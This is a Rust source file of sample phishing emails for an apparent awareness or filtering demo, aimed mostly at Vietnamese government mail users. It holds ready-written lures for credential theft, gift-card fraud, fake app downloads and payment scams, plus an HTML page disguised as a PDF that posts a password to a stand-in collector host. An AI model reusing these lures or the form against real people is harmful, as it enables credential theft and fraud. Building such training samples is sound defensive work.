//! The lures of the demo, L01 to L17 of the domain notes, and the case of March 2021. Every host lies under a reserved name
//! (RFC 2606) and every address in a documentation network (RFC 5737), but for the sender of 2021, whom the dispatch names.

use super::original::{BLANK, File, Original};

/// 09:29 on 11 March 2021, +07:00.
const DISPATCH_TIME: i64 = 1_615_429_740;

/// The mail of the source dispatch, sent from another state's mailbox with valid authentication.
pub(super) const DISPATCH: Original = Original {
    code: "l02",
    name: "Держлікслужба у Хмельницькій області",
    from: "dls.km@dls.gov.ua",
    subject: "Cập nhật hộp thư điện tử",
    text: "Kính gửi người dùng thư điện tử,\n\nHộp thư của bạn sử dụng phiên bản webmail cũ và sẽ bị tạm ngưng trong vòng 24 giờ. Bộ phận quản trị thư điện tử tỉnh đề nghị cập nhật ngay.\n\n{} – cung cấp họ tên, tài khoản, mật khẩu.\n\nQuản trị hệ thống thư điện tử",
    link: ("Nhấn vào đây để cập nhật", "http://cap-nhat-webmail.example/zimbra/?lang=vi"),
    host: ("mail.dls.gov.ua", "198.51.100.17"),
    auth: ("pass", "pass", "pass"),
    sent: DISPATCH_TIME,
    ..BLANK
};

/// The same lure again from a look-alike of the province's own domain.
pub(super) const LOOKALIKE: Original = Original {
    code: "l02b",
    name: "Quản trị thư điện tử tỉnh Lai Châu",
    from: "admin@mail-laichau-gov.example",
    subject: "Thông báo nâng cấp hệ thống thư công vụ",
    text: "Kính gửi Ông/Bà,\n\nHệ thống thư công vụ được nâng cấp lên phiên bản mới. Đề nghị đăng nhập lại tại {} trước 17h00 hôm nay để không mất dữ liệu.\n\nTrân trọng.",
    link: ("https://mail.laichau.gov.vn", "https://mail.laichau.gov.vn.laichau-gov.example/zimbra/"),
    host: ("srv4.mail-laichau-gov.example", "203.0.113.44"),
    auth: ("pass", "none", "none"),
    ..BLANK
};

/// A domain whose first `а` is Cyrillic.
pub(super) const HOMOGLYPH: Original = Original {
    code: "l04b",
    name: "Hỗ trợ thư công vụ",
    from: "hotro@xn--lichau-3nf.example",
    subject: "Xác thực tài khoản thư công vụ năm nay",
    text: "Kính gửi Ông/Bà,\n\nĐể tiếp tục sử dụng, đề nghị xác thực tài khoản tại {}. Tài khoản không xác thực sẽ bị khóa.",
    link: ("lаichau.example", "https://lаichau.example/xac-thuc"),
    host: ("out.gui-thu.invalid", "203.0.113.45"),
    auth: ("softfail", "none", "fail"),
    ..BLANK
};

/// A page with a password form that calls itself a PDF; it is inert without its host.
const FORM: &[u8] = b"<!doctype html><html><head><meta charset=\"utf-8\"><title>Xem giay moi</title></head><body>\
<h1>Zimbra Web Client Sign In</h1><form action=\"https://thu-thap.invalid/nhan\" method=\"post\">\
<input name=\"username\"><input name=\"password\" type=\"password\"><button>Dang nhap de xem</button></form></body></html>";

/// Not a document at all, only named like one with macros.
const HARMLESS: &[u8] = b"Tep mau cua hotro demo, khong chua ma thuc thi.\r\n";

/// L01 to L17, in order.
pub(super) const LURES: [Original; 17] = [
    Original {
        code: "l01",
        name: "Hệ thống thư điện tử",
        from: "no-reply@dung-luong-hop-thu.example",
        subject: "Hộp thư của bạn đã vượt quá dung lượng cho phép",
        text: "Hộp thư của bạn đã sử dụng 98% dung lượng và không thể gửi/nhận thư mới.\n\nBấm vào {} để tăng dung lượng miễn phí.",
        link: ("đây", "https://dung-luong-hop-thu.example/tang?u=laichau.gov.vn"),
        host: ("vps12.dung-luong-hop-thu.example", "203.0.113.12"),
        auth: ("fail", "none", "fail"),
        ..BLANK
    },
    LOOKALIKE,
    Original {
        code: "l03",
        name: "Mail Admin",
        from: "admin@canh-bao-tai-khoan.example",
        subject: "CẢNH BÁO LẦN CUỐI: tài khoản sẽ bị xóa trong vòng 24 giờ",
        text: "Tài khoản của bạn bị báo cáo vi phạm và sẽ bị khóa, xóa toàn bộ dữ liệu trong vòng 24 giờ.\n\nVui l0ng hủy yêu cầu tại {}",
        link: ("Hủy yêu cầu xóa", "http://198.51.100.80:8080/huy"),
        host: ("unknown.canh-bao-tai-khoan.example", "198.51.100.80"),
        auth: ("softfail", "none", "none"),
        ..BLANK
    },
    Original {
        code: "l04",
        name: "Bộ phận kỹ thuật",
        from: "support@mat-khau-het-han.example",
        subject: "Mật khẩu của bạn sẽ hết hạn hôm nay",
        text: "Mật khẩu của bạn sẽ hết hạn hôm nay. Để giữ mật khẩu hiện tại, xác minh tài khoản tại {}.",
        link: ("Giữ mật khẩu hiện tại", "https://mat-khau-het-han.example/owa/"),
        reply_to: "tra-loi@hop-thu-khac.invalid",
        host: ("a1.mat-khau-het-han.example", "203.0.113.31"),
        auth: ("pass", "fail", "fail"),
        ..BLANK
    },
    Original {
        code: "l05",
        name: "Quarantine Report",
        from: "quarantine@thu-bi-giu.example",
        subject: "Bạn có 05 thư bị tạm giữ",
        text: "Hệ thống đang tạm giữ 05 thư gửi đến bạn do lỗi đồng bộ.\n\n{}\n\nCác thư sẽ bị xóa sau 48 giờ.",
        link: ("Phát hành thư", "https://thu-bi-giu.example/release/5"),
        host: ("mx.thu-bi-giu.example", "203.0.113.52"),
        ..BLANK
    },
    Original {
        code: "l06",
        name: "An ninh tài khoản",
        from: "security@dang-nhap-la.example",
        subject: "Phát hiện đăng nhập bất thường",
        text: "Tài khoản của bạn vừa đăng nhập từ thiết bị lạ ở nước ngoài. Nếu không phải bạn, bấm vào {} để bảo vệ tài khoản.",
        link: ("Không phải tôi", "https://dang-nhap-la.example/khong-phai-toi"),
        host: ("b7.dang-nhap-la.example", "198.51.100.61"),
        auth: ("neutral", "none", "none"),
        ..BLANK
    },
    Original {
        code: "l07",
        name: "Văn phòng UBND tỉnh Lai Châu",
        from: "vanthu@van-ban-hoa-toc.example",
        subject: "HỎA TỐC: Giấy mời họp trực tuyến",
        text: "Kính gửi các đơn vị,\n\nVăn phòng gửi Giấy mời họp hỏa tốc. Đề nghị mở tệp đính kèm và đăng nhập bằng tài khoản thư công vụ để xem.\n\nTrân trọng./.",
        host: ("smtp.van-ban-hoa-toc.example", "203.0.113.70"),
        file: Some(File { name: "Giay_moi_hop.pdf.html", kind: "text/html", bytes: FORM }),
        ..BLANK
    },
    Original {
        code: "l08",
        name: "Giám đốc Sở",
        from: "giamdoc.rieng@hop-thu-mien-phi.example",
        subject: "Em xử lý gấp giúp anh",
        text: "Anh đang họp, không nghe máy được. Em mua giúp anh 5 thẻ cào 500.000đ rồi chụp mã gửi lại thư này, chiều anh hoàn tiền.\n\nGửi từ điện thoại",
        reply_to: "nhan-ma-the@hop-thu-khac.invalid",
        host: ("out3.hop-thu-mien-phi.example", "198.51.100.88"),
        auth: ("pass", "pass", "pass"),
        ..BLANK
    },
    Original {
        code: "l09",
        name: "VNeID",
        from: "thongbao@vneid-capnhat.example",
        subject: "Yêu cầu cập nhật định danh mức 2",
        text: "Tài khoản VNeID của công dân chưa đồng bộ CCCD. Đề nghị tải ứng dụng tại {} để cập nhật, quá hạn sẽ bị tạm khóa.",
        link: ("vneid.gov.vn", "https://vneid.gov.vn.vneid-capnhat.example/vneid.apk"),
        host: ("n1.vneid-capnhat.example", "203.0.113.90"),
        auth: ("fail", "none", "fail"),
        ..BLANK
    },
    Original {
        code: "l10",
        name: "Cổng Dịch vụ công",
        from: "hotro@dichvucongs.example",
        subject: "Ông/Bà đủ điều kiện nhận hỗ trợ từ quỹ BHTN",
        text: "Hồ sơ của Ông/Bà đã đủ điều kiện nhận tiền hỗ trợ 3.200.000đ. Đề nghị xác nhận thông tin, số thẻ ngân hàng tại {}.",
        link: ("dichvucong.gov.vn", "https://dichvucongs.example/nhan-tien"),
        host: ("w2.dichvucongs.example", "203.0.113.101"),
        ..BLANK
    },
    Original {
        code: "l11",
        name: "Cục Thuế",
        from: "quyettoan@thuedientuu.example",
        subject: "Thông báo quyết toán thuế thu nhập cá nhân",
        text: "Ông/Bà có số tiền thuế được hoàn. Đăng nhập {} để kê khai tài khoản nhận tiền hoàn thuế.",
        link: ("thuedientu.gdt.gov.vn", "http://thuedientuu.example/hoan-thue"),
        host: ("v8.thuedientuu.example", "198.51.100.111"),
        auth: ("fail", "none", "none"),
        ..BLANK
    },
    Original {
        code: "l12",
        name: "Chăm sóc khách hàng Điện lực",
        from: "cskh@evn-thanhtoan.example",
        subject: "Thông báo ngừng cấp điện do nợ tiền điện",
        text: "Quý khách còn nợ tiền điện và sẽ bị ngừng cấp điện trước 17h. Thanh toán ngay tại {}.",
        link: ("Thanh toán", "https://evn-thanhtoan.example/no-tien-dien"),
        host: ("p1.evn-thanhtoan.example", "203.0.113.120"),
        ..BLANK
    },
    Original {
        code: "l13",
        name: "Vietcombank",
        from: "digibank@vietcombank-ipay.example",
        subject: "Dịch vụ tài chính toàn cầu phí 2.000.000đ/tháng đã kích hoạt",
        text: "Quý khách đã mở dịch vụ tài chính toàn cầu, phí 2.000.000đ/tháng. Nếu không phải quý khách, bấm {} để hủy.",
        link: ("Hủy dịch vụ", "https://vietcombank-ipay.example/huy-dich-vu"),
        host: ("s1.vietcombank-ipay.example", "198.51.100.130"),
        auth: ("none", "none", "fail"),
        ..BLANK
    },
    Original {
        code: "l14",
        name: "Cơ quan Cảnh sát điều tra",
        from: "lenhbat@cong-an-online.example",
        subject: "Giấy triệu tập: liên quan vụ án rửa tiền",
        text: "Ông/Bà có tên trong vụ án rửa tiền. Để tránh bị bắt tạm giam, kê khai tài khoản ngân hàng và mã OTP tại {} trong 2 giờ.",
        link: ("Kê khai", "http://cong-an-online.example/ke-khai"),
        host: ("h5.cong-an-online.example", "203.0.113.140"),
        ..BLANK
    },
    Original {
        code: "l15",
        name: "Tri ân khách hàng",
        from: "qua-tang@trung-thuong-lon.example",
        subject: "CHUC MUNG! Ban da tr0ng thu0ng dien thoai",
        text: "CHUC MUNG ban da trung thuong. NHAN'TIEN va qua tang tai {}, chi can nop 500.000d phi van chuyen.",
        link: ("CHAP_NHAN", "http://trung-thuong-lon.example/nhan?id=JKqc"),
        host: ("promo.trung-thuong-lon.example", "198.51.100.150"),
        auth: ("softfail", "none", "none"),
        ..BLANK
    },
    Original {
        code: "l16",
        name: "Bưu chính chuyển phát",
        from: "giaohang@buu-kien-cho.example",
        subject: "Đơn hàng giao không thành công",
        text: "Bưu kiện của Ông/Bà đang giữ tại kho do sai địa chỉ. Cập nhật địa chỉ và nộp phí 12.000đ tại {}.",
        link: ("Cập nhật địa chỉ", "https://buu-kien-cho.example/track/00412"),
        host: ("t3.buu-kien-cho.example", "203.0.113.160"),
        ..BLANK
    },
    Original {
        code: "l17",
        name: "Phòng Kinh doanh",
        from: "kinhdoanh@bao-gia-thiet-bi.example",
        subject: "Báo giá thiết bị và hợp đồng kèm theo",
        text: "Kính gửi Quý cơ quan,\n\nCông ty gửi báo giá và hợp đồng. Đề nghị mở tệp, bấm “Enable Content” để xem đầy đủ.\n\nTrân trọng.",
        host: ("mail.bao-gia-thiet-bi.example", "198.51.100.170"),
        auth: ("pass", "pass", "none"),
        file: Some(File {
            name: "Hợp đồng thiết bị.docm",
            kind: "application/vnd.ms-word.document.macroEnabled.12",
            bytes: HARMLESS,
        }),
        ..BLANK
    },
];
